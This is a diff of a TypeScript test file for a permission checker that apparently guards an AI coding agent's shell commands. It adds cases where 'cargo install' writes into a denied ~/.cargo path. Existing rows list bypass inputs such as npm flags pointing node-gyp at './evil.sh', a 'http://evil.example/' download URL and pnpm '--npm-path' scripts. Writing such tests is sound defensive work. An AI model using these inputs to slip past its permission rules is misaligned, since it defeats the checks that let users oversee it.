@@ -26,6 +26,7 @@ const rows: Array<[string, Rules, string[]]> = [
   ['R27-6 npm unknown keys to node-gyp', { allow: ['Bash(npm install:*)', 'Bash(npm test:*)', 'Bash(npm run:*)', 'Bash(npm ci:*)'], deny: ['Bash(rm *)'] }, ['npm install --python=./evil.sh', 'npm test --make=./evilmake', 'npm test --nodedir=/tmp/x', 'npm run build --python=./evil.sh', 'npm ci --devdir=/tmp/x', 'npm test --dist_url=http://evil.example/', 'npm test --directory=../other']],
   ['R27-6 node-gyp keys as npm_config_ variables', { deny: ['Bash(rm *)'] }, ['npm_config_python=./evil.sh npm test', 'NPM_CONFIG_MAKE=./x npm test', 'npm_config_nodedir=/tmp/x npm install']],
   ['R27-3 npm --local=false is global', { allow: ['Bash(npm install:*)', 'Bash(npm i:*)'], deny: ['Edit(/usr/**)'] }, ['npm install --local=false ./pkg', 'npm i --local=false ./pkg', 'npm install ---local=false ./pkg', 'npm install --local false ./pkg', 'npm install --local=0 ./pkg']],
+  ['R27-8 cargo install writes ~/.cargo/bin', { allow: ['Bash(cargo:*)'], deny: ['Edit(~/.cargo/**)'] }, ['cargo install --path .', 'cargo install --path . --force', 'cargo install ripgrep', 'cargo +stable install ripgrep', 'cargo uninstall ripgrep']],
   ['R27-13 pnpm --npm-path', { allow: ['Bash(pnpm:*)'], deny: ['Bash(rm *)'] }, ['pnpm publish --no-git-checks --npm-path=./x.sh', 'pnpm publish --npm-path ./x.sh', 'pnpm config set npm-path ./x.sh']],
 ];
 
@@ -45,6 +46,9 @@ describe('stay allowed', () => {
     ['npm install --save-dev typescript', { allow: ['Bash(npm install:*)'], deny: ['Bash(rm *)'] }],
     ['npm install ./pkg', { allow: ['Bash(npm install:*)'], deny: ['Edit(/usr/**)'] }],
     ['npm install --local ./pkg', { allow: ['Bash(npm install:*)'], deny: ['Edit(/usr/**)'] }],
+    ['cargo build', { allow: ['Bash(cargo:*)'], deny: ['Edit(~/.cargo/**)'] }],
+    ['cargo test', { allow: ['Bash(cargo:*)'], deny: ['Edit(~/.cargo/**)'] }],
+    ['cargo install --list', { allow: ['Bash(cargo:*)'], deny: ['Edit(~/.cargo/**)'] }],
     ['pnpm publish --dry-run', { allow: ['Bash(pnpm:*)'], deny: ['Bash(rm *)'] }],
   ] as Array<[string, Rules]>)('default: %s', (command, rules) => {
     const decision = shell(command, 'default', rules);
